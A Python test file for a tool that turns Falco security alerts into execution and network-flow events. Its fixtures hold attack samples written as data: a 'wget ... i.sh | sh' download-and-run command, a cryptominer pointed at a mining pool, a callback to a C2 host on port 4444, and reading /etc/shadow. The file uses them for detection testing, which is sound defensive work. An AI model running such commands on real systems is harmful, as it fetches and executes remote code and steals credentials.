"""Falco's alerts: which mean an execution, and where a connection went."""

from typing import Any

import pytest
from falco_alerts import CONTAINER, DIGEST, TIME_NS, WHERE, alerted, executed, flow, sample

from tidewaiter.event import (
    ImageClaim,
    NetworkFlow,
    Pod,
    ProcessExec,
)


def test_spawned_shell_is_an_execution() -> None:
    """Container, pod, image, process and moment of the best known alert."""
    (event,) = sample("0.41-syscall.in.jsonl")[0]
    assert event == ProcessExec(
        time_ns=TIME_NS,
        cluster="default",
        node="node-a",
        where=WHERE,
        container_id_prefix=CONTAINER[:12],
        pod=Pod(namespace="shop", name="web-7d9f8b6c5-x2x4z", container_name="web"),
        image=ImageClaim(reference="registry.example/shop/web:1.4"),
        exe="/bin/busybox",
        args=("sh", "-c", "wget", "-qO-", "http://203.0.113.9/i.sh", "|", "sh"),
        parent_exe="containerd-shim",
        uid=0,
        is_upper_layer=False,
    )


def test_dropped_binary_is_in_the_upper_layer() -> None:
    """The rule about drift tells it by the flags of the execution, with argv[0], pids and the parent's path."""
    (event,) = sample("0.41-syscall.in.jsonl")[1]
    assert isinstance(event, ProcessExec)
    assert event.is_upper_layer is True
    assert event.exe == event.args[0]
    assert event.args[1:] == ("-o", "pool.site.example:3333")
    assert (event.pid, event.parent_pid, event.parent_exe) == (4110, 4100, "/bin/busybox")


@pytest.mark.parametrize(
    ("fields", "is_upper_layer"),
    [
        ({}, None),
        ({"proc.is_exe_upper_layer": True}, True),
        ({"proc.is_exe_upper_layer": "true"}, True),
        ({"proc.is_exe_upper_layer": False}, False),
        ({"proc.is_exe_upper_layer": "false"}, False),
        ({"proc.is_exe_upper_layer": "<NA>"}, None),
        ({"evt.arg.flags": "EXE_WRITABLE|EXE_UPPER_LAYER"}, True),
        ({"evt.arg.flags": "EXE_LOWER_LAYER"}, False),
        ({"evt.arg.flags": "EXE_WRITABLE"}, None),
        ({"evt.arg.flags": "EXE_FROM_MEMFD", "proc.exepath": "memfd:x"}, True),
        ({"proc.is_exe_from_memfd": True}, True),
        ({"proc.is_exe_from_memfd": True, "proc.exepath": "memfd:runc_cloned:/proc/self/exe"}, None),
        ({"proc.is_exe_from_memfd": True, "proc.is_exe_upper_layer": False}, True),
    ],
)
def test_layer_of_the_binary_is_told_in_many_ways(fields: dict[str, Any], is_upper_layer: bool | None) -> None:
    """A truth, its text, or a flag; a memfd is in no layer, but the runtime's copy of itself is no drift."""
    assert executed(**fields).is_upper_layer is is_upper_layer


@pytest.mark.parametrize(
    ("fields", "is_execution"),
    [
        ({"evt.type": "execve"}, True),
        ({"evt.type": "execveat", "evt.res": "SUCCESS", "evt.rawres": 0}, True),
        ({"evt.type": "execve", "evt.res": "ENOENT"}, False),
        ({"evt.type": "execve", "evt.rawres": -2}, False),
        ({"evt.type": "execve", "evt.rawres": "-2"}, False),
        ({"evt.type": "openat", "fd.name": "/etc/shadow"}, False),
        ({"evt.type": "openat"}, False),
        ({"evt.type": "container"}, False),
        ({"evt.type": "clone"}, False),
        ({"evt.type": None}, True),
        ({"evt.type": "<NA>"}, True),
        ({}, True),
        ({"fd.name": "/etc/shadow"}, False),
        ({"fd.name": None}, True),
        ({"fd.l4proto": "tcp"}, False),
        ({"proc.cmdline": None}, False),
        ({"proc.cmdline": ["cat"]}, False),
    ],
)
def test_naming_a_process_is_not_executing_it(fields: dict[str, Any], is_execution: bool) -> None:
    """The type of the event decides; without it, a command line and no file or connection."""
    events = alerted(**({"proc.cmdline": "cat /etc/shadow", "proc.name": "cat"} | fields))
    assert [type(event) for event in events] == [ProcessExec] * is_execution


@pytest.mark.parametrize(
    ("fields", "args"),
    [
        ({"proc.name": "sh", "proc.cmdline": "sh -c id"}, ("sh", "-c", "id")),
        ({"proc.name": "sh", "proc.cmdline": "sh"}, ("sh",)),
        ({"proc.name": "sh", "proc.cmdline": "sh -c id", "proc.exe": "/bin/sh"}, ("/bin/sh", "-c", "id")),
        ({"proc.name": "sh", "proc.args": "-c id", "proc.cmdline": "other"}, ("sh", "-c", "id")),
        ({"proc.name": "sh", "proc.args": ""}, ("sh",)),
        ({"proc.name": "Web Content", "proc.cmdline": "Web Content -x"}, ("Web Content", "-x")),
        ({"proc.name": None, "proc.cmdline": "sh  -c   id"}, ("sh", "-c", "id")),
        ({"proc.name": "shell", "proc.cmdline": "sh -c id"}, ("sh", "-c", "id")),
        ({"proc.name": None, "proc.exe": "/x"}, ("/x",)),
        ({"proc.name": None}, ()),
    ],
)
def test_command_line_is_split_at_blanks(fields: dict[str, Any], args: tuple[str, ...]) -> None:
    """The name of the process may hold blanks itself; argv[0] takes its place where it is told."""
    assert executed(**fields).args == args


@pytest.mark.parametrize(
    ("fields", "exe"),
    [
        ({"proc.exepath": "/bin/busybox", "proc.name": "sh", "proc.exe": "/lie"}, "/bin/busybox"),
        ({"proc.exepath": "<NA>", "proc.name": "sh", "proc.exe": "/lie"}, "sh"),
        ({"proc.exepath": "", "proc.name": None, "proc.exe": "/lie"}, None),
    ],
)
def test_argv_0_is_no_path(fields: dict[str, Any], exe: str | None) -> None:
    """`proc.exe` is what the process calls itself."""
    assert executed(**fields).exe == exe


@pytest.mark.parametrize(
    ("uid", "known"),
    [(0, 0), ("1000", 1000), (4294967295, None), (-1, None), ("<NA>", None), (True, None), (2**70, None)],
)
def test_user_may_be_unknown(uid: Any, known: int | None) -> None:
    """All ones, a negative number, text that is no number."""
    assert executed(user__uid=uid).uid == known


def test_connection_goes_to_the_server_of_the_pair() -> None:
    """`fd.name` is client and server; `fd.rport` of a container's socket is the wrong one (seen on real alerts)."""
    (event,) = sample("0.41-syscall.in.jsonl")[4]
    assert isinstance(event, NetworkFlow)
    assert (event.dst_ip, event.dst_port, event.src_ip) == ("10.96.0.1", 443, "10.0.1.7")
    assert (event.protocol, event.direction, event.is_refused) == ("tcp", "egress", False)
    assert event.exe == "/bin/busybox"


def test_fields_of_the_server_do_as_well() -> None:
    """Address, port, name and refusal, beside a whole container id, a registry digest and a short image id."""
    (event,) = sample("0.41-syscall.in.jsonl")[5]
    assert isinstance(event, NetworkFlow)
    assert (event.dst_ip, event.dst_port, event.dst_name) == ("203.0.113.9", 4444, "c2.site.example")
    assert event.is_refused
    assert (event.container_id, event.container_id_prefix) == (CONTAINER, None)
    assert event.image == ImageClaim(
        reference="registry.example/shop/web:1.4",
        repo_digest=DIGEST,
        repository="registry.example/shop/web",
        config_digest_prefix="71c071c071c0",
    )


@pytest.mark.parametrize(
    ("fields", "server"),
    [
        ({"fd.name": "10.0.0.1:44->203.0.113.4:443"}, ("203.0.113.4", 443, "10.0.0.1")),
        ({"fd.name": "2001:db8::1:44->2001:db8::4:443"}, ("2001:db8::4", 443, "2001:db8::1")),
        ({"fd.name": "::ffff:10.0.0.1:44->::ffff:203.0.113.4:443"}, ("203.0.113.4", 443, "10.0.0.1")),
        ({"fd.name": "x->y", "fd.sip": "203.0.113.4", "fd.sport": "443"}, ("203.0.113.4", 443, None)),
        ({"fd.sip": "203.0.113.4", "fd.cip": "10.0.0.1"}, ("203.0.113.4", None, "10.0.0.1")),
        ({"fd.sip": "<NA>", "fd.rip": "203.0.113.4", "fd.rport": 443}, ("203.0.113.4", 443, None)),
        ({"fd.sip": "203.0.113.4", "fd.sport": 70000}, ("203.0.113.4", None, None)),
        ({"fd.sip": "203.0.113.4", "fd.sport": [443]}, ("203.0.113.4", None, None)),
    ],
)
def test_server_is_found_in_many_forms(fields: dict[str, Any], server: tuple[str, int | None, str | None]) -> None:
    """The pair, the server's fields, and the remote side's last."""
    event = flow(**fields)
    assert (event.dst_ip, event.dst_port, event.src_ip) == server


@pytest.mark.parametrize("fields", [{}, {"fd.name": "/run/docker.sock"}, {"fd.sip": "c2.example"}, {"fd.name": "a->b"}])
def test_no_address_is_no_connection(fields: dict[str, Any]) -> None:
    """A file, a socket of the host, a name instead of an address."""
    assert alerted(**({"evt.type": "connect"} | fields)) == []


@pytest.mark.parametrize(
    ("evt_type", "rule", "direction"),
    [
        ("connect", "Inbound", "egress"),
        ("sendto", "A rule", "egress"),
        ("accept4", "Outbound", "ingress"),
        ("dup2", "Redirect STDOUT/STDIN to Network Connection in Container", "unknown"),
        ("recvfrom", "A rule", "unknown"),
        (None, "Outbound Connection to C2 Servers", "egress"),
        (None, "Contact K8S API Server From Container", "egress"),
        (None, "Outbound or Inbound Traffic not to Authorized Server Process and Port", "unknown"),
        (None, "Netcat", "unknown"),
    ],
)
def test_direction_is_the_calls_or_the_rules(evt_type: str | None, rule: str, direction: str) -> None:
    """Where neither says who began, it is not proven."""
    (event,) = alerted({"rule": rule}, **{"evt.type": evt_type, "fd.name": "10.0.0.1:44->203.0.113.4:443"})
    assert isinstance(event, NetworkFlow)
    assert event.direction == direction
    assert event.is_initiator_proven is (direction != "unknown")


def test_listening_is_no_connection() -> None:
    """A bound socket has a peer of no meaning."""
    assert alerted(**{"evt.type": "bind", "fd.sip": "192.0.2.1"}) == []


@pytest.mark.parametrize(
    ("fields", "is_refused"),
    [
        ({"evt.res": "SUCCESS"}, False),
        ({"evt.res": "EINPROGRESS", "evt.rawres": -115}, False),
        ({"evt.res": "ECONNREFUSED"}, True),
        ({"evt.rawres": -111}, True),
        ({"evt.res": "EPERM"}, True),
        ({"evt.res": ["EPERM"]}, False),
    ],
)
def test_refusal_is_the_calls_result(fields: dict[str, Any], is_refused: bool) -> None:
    """EINPROGRESS is a connection that is not finished."""
    assert flow(**({"fd.sip": "203.0.113.4"} | fields)).is_refused is is_refused


def test_execution_with_a_connection_is_both() -> None:
    """A rule that shows the socket of a spawned process; nobody says who opened it."""
    events = alerted(**{"evt.type": "execve", "proc.name": "bash", "fd.rip": "203.0.113.4", "fd.rport": 4444})
    assert [type(event) for event in events] == [ProcessExec, NetworkFlow]
